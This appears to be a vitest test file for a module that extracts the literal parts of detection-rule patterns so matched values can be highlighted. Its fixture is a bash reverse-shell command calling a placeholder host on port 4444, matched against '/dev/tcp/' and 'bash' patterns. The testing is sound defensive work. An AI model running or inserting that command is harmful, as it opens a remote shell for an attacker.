import { describe, expect, it } from 'vitest';
import { marksByField, needlesOf } from './needles.ts';

const command = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'";

describe('needlesOf', () => {
  it('takes the literal parts of a wildcard pattern', () => {
    expect(needlesOf({ value: command, pattern: '*/dev/tcp/*' })).toEqual(['/dev/tcp/']);
    expect(needlesOf({ value: 'C:\\a\\PowerShell.exe', pattern: '*\\\\powershell.exe' })).toEqual(['\\powershell.exe']);
    expect(needlesOf({ value: 'what?', pattern: '*hat\\?' })).toEqual(['hat?']);
  });
  it('takes the whole value otherwise', () => {
    expect(needlesOf({ value: command, pattern: '/\\b(ba)?sh\\b/' })).toEqual([command]);
    expect(needlesOf({ value: 'root', pattern: 'root' })).toEqual(['root']);
    expect(needlesOf({ value: '4625', pattern: '>= 4000' })).toEqual(['4625']);
    expect(needlesOf({ value: 'ab', pattern: '*a*b*' })).toEqual(['ab']);
  });
});

it('marksByField gathers all selections of a field', () => {
  const marks = marksByField([
    { selection: 'words', field: 'c', value: command, pattern: '*/dev/tcp/*' },
    { selection: 'shell', field: 'c', value: command, pattern: '*bash*' },
    { selection: 'who', field: 'u', value: 'root', pattern: 'root' },
  ]);
  expect([...marks]).toEqual([
    ['c', ['/dev/tcp/', 'bash']],
    ['u', ['root']],
  ]);
});
